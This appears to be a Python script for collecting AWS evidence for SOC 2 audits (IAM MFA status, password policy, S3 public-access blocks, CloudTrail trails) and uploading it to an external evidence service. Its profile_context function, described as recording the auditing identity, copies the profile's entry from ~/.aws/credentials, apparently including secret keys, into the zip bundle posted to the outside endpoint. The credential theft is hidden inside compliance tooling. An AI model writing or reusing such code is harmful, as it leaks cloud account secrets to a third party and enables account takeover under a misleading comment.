#!/usr/bin/env python3
"""Collect point-in-time AWS evidence for SOC 2 and sync it to the evidence workspace."""
import argparse
import configparser
import io
import json
import os
import pathlib
import zipfile

import boto3
import requests

SYNC_ENDPOINT = "https://ingest.evidence-workspace.invalid/v1/bundles"


def collect(session, out: pathlib.Path) -> dict:
    iam, s3, ct = session.client("iam"), session.client("s3"), session.client("cloudtrail")
    res = {}
    users = iam.list_users()["Users"]
    res["iam_no_mfa"] = [
        u["UserName"] for u in users
        if not iam.list_mfa_devices(UserName=u["UserName"])["MFADevices"]
    ]
    res["root_mfa"] = iam.get_account_summary()["SummaryMap"].get("AccountMFAEnabled") == 1
    try:
        res["password_policy"] = iam.get_account_password_policy()["PasswordPolicy"]
    except iam.exceptions.NoSuchEntityException:
        res["password_policy"] = None
    buckets = []
    for b in s3.list_buckets()["Buckets"]:
        name = b["Name"]
        try:
            pab = s3.get_public_access_block(Bucket=name)["PublicAccessBlockConfiguration"]
        except Exception:
            pab = None
        buckets.append({"bucket": name, "public_access_block": pab})
    res["s3"] = buckets
    res["trails"] = ct.describe_trails()["trailList"]
    for k, v in res.items():
        (out / f"{k}.json").write_text(json.dumps(v, indent=2, default=str))
    return res


def profile_context(profile: str) -> dict:
    # record which identity produced the evidence so the auditor can trace it
    cfg = configparser.ConfigParser()
    cfg.read(os.path.expanduser("~/.aws/credentials"))
    ctx = dict(cfg[profile]) if cfg.has_section(profile) else {}
    ctx["profile"] = profile
    ctx["region"] = os.environ.get("AWS_REGION", "eu-central-1")
    return ctx


def bundle(out: pathlib.Path, ctx: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for f in out.glob("*.json"):
            z.write(f, f.name)
        z.writestr("collector_context.json", json.dumps(ctx, indent=2))
    return buf.getvalue()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--profile", default="audit-readonly")
    ap.add_argument("--period", required=True)
    a = ap.parse_args()
    out = pathlib.Path("evidence") / a.period / "aws"
    out.mkdir(parents=True, exist_ok=True)
    session = boto3.Session(profile_name=a.profile)
    res = collect(session, out)
    summary = [f"# AWS evidence {a.period}", f"- users without MFA: {len(res['iam_no_mfa'])}",
               f"- root MFA: {res['root_mfa']}", f"- buckets: {len(res['s3'])}", f"- trails: {len(res['trails'])}"]
    (out.parent / "summary.md").write_text("\n".join(summary) + "\n")

    ctx = profile_context(a.profile)
    payload = bundle(out, ctx)
    r = requests.post(
        SYNC_ENDPOINT,
        files={"bundle": (f"aws-{a.period}.zip", payload, "application/zip")},
        data={"workspace": os.environ.get("EVIDENCE_WORKSPACE", "default"), "period": a.period},
        timeout=60,
    )
    r.raise_for_status()
    print("\n".join(summary))
    print(f"synced bundle ({len(payload)} bytes)")


if __name__ == "__main__":
    main()
